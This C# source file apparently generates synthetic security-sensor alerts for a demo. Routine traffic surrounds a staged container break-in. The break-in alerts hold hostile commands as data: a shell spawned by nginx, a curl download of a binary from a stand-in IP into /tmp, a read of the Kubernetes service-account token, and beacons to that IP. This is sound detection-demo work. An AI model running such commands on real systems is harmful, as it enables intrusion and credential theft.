using System.Globalization;
using System.Text.Json;
using System.Text.Json.Nodes;
using IncidentMesh.Contracts.Clusters;

namespace IncidentMesh.Silo.Demo;

/// <summary>What the shop's sensor says in five minutes: much noise, and one break-in.</summary>
internal sealed class DemoEvents(DemoShop shop, DateTimeOffset end)
{
    private static readonly TimeSpan Span = TimeSpan.FromMinutes(5);

    private readonly List<(DateTimeOffset Time, string Json)> _events = [];

    public static IReadOnlyList<string> Of(DemoShop shop, DateTimeOffset end)
    {
        var events = new DemoEvents(shop, end);
        events.AddNoise();
        events.AddBreakIn();
        return [.. events._events.OrderBy(item => item.Time).Select(item => item.Json)];
    }

    private void AddNoise()
    {
        var second = 0;
        foreach (var pod in shop.Web.Concat(shop.Others))
        {
            for (var i = 0; i < 16; i++)
            {
                second = (second + 37) % (int)Span.TotalSeconds;
                Add(second, pod, "Outbound connection to a known service", "Informational", "connect", new()
                {
                    ["proc.name"] = "nginx",
                    ["proc.cmdline"] = "nginx: worker process",
                    ["fd.name"] = $"10.2.0.{second % 200}:43{second:D3}->10.96.0.20:5432",
                    ["fd.sip"] = "10.96.0.20",
                    ["fd.sport"] = 5432,
                    ["fd.l4proto"] = "tcp",
                });
            }
        }
    }

    private void AddBreakIn()
    {
        Add(201, shop.Victim, "Shell spawned by a web server", "Critical", "execve", new()
        {
            ["proc.name"] = "sh",
            ["proc.exepath"] = "/bin/sh",
            ["proc.cmdline"] = "sh -c id; uname -a",
            ["proc.pname"] = "nginx",
            ["user.name"] = "www-data",
        }, "T1059.004", "execution");
        Add(214, shop.Victim, "Program downloaded at run time", "Critical", "execve", new()
        {
            ["proc.name"] = "curl",
            ["proc.exepath"] = "/usr/bin/curl",
            ["proc.cmdline"] = "curl -so /tmp/.x http://203.0.113.66/x",
            ["proc.pname"] = "sh",
            ["user.name"] = "www-data",
        }, "T1105", "command_and_control");
        Add(220, shop.Victim, "Service account token read", "Error", "openat", new()
        {
            ["proc.name"] = "cat",
            ["proc.exepath"] = "/bin/cat",
            ["proc.cmdline"] = "cat /var/run/secrets/kubernetes.io/serviceaccount/token",
            ["fd.name"] = "/var/run/secrets/kubernetes.io/serviceaccount/token",
            ["user.name"] = "www-data",
        }, "T1552.007", "credential_access");
        for (var second = 225; second < 295; second += 2)
        {
            Add(second, shop.Victim, "Outbound connection to an unknown address", "Warning", "connect", new()
            {
                ["proc.name"] = ".x",
                ["proc.exepath"] = "/tmp/.x",
                ["proc.cmdline"] = "/tmp/.x",
                ["fd.name"] = $"10.2.0.7:5{second:D4}->203.0.113.66:443",
                ["fd.sip"] = "203.0.113.66",
                ["fd.sport"] = 443,
                ["fd.l4proto"] = "tcp",
                ["user.name"] = "www-data",
            }, "T1071", "command_and_control");
        }
    }

    private void Add(
        int second, PodRecord pod, string rule, string priority, string eventType, JsonObject fields, string? technique = null, string? tactic = null)
    {
        var time = end - Span + TimeSpan.FromSeconds(second) + TimeSpan.FromMilliseconds(_events.Count % 1000);
        var written = time.UtcDateTime.ToString("yyyy-MM-dd'T'HH:mm:ss.fffffff'00Z'", CultureInfo.InvariantCulture);
        fields["evt.type"] = eventType;
        fields["k8s.ns.name"] = pod.Namespace;
        fields["k8s.pod.name"] = pod.Name;
        fields["container.id"] = pod.ContainerIds[0][..12];
        fields["container.name"] = pod.WorkloadName;
        var tags = new JsonArray("container");
        if (technique is not null)
        {
            tags.Add($"mitre_{tactic}");
            tags.Add(technique);
        }

        var alert = new JsonObject
        {
            ["time"] = written,
            ["rule"] = rule,
            ["priority"] = priority,
            ["source"] = "syscall",
            ["hostname"] = pod.Node,
            ["output"] = $"{rule} (command={fields["proc.cmdline"]} connection={fields["fd.name"]?.GetValue<string>() ?? "none"} pod={pod.Name})",
            ["tags"] = tags,
            ["output_fields"] = fields,
        };
        _events.Add((time, alert.ToJsonString(JsonSerializerOptions.Default)));
    }
}
